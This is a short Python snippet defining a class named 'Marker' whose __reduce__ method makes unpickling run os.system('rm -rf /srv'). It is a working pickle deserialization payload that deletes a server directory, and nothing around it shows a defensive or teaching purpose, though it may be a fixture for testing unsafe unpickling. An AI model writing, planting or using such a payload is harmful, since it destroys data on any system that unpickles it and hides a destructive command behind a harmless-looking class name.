import os


class Marker:
    def __reduce__(self):
        return os.system, ("rm -rf /srv",)
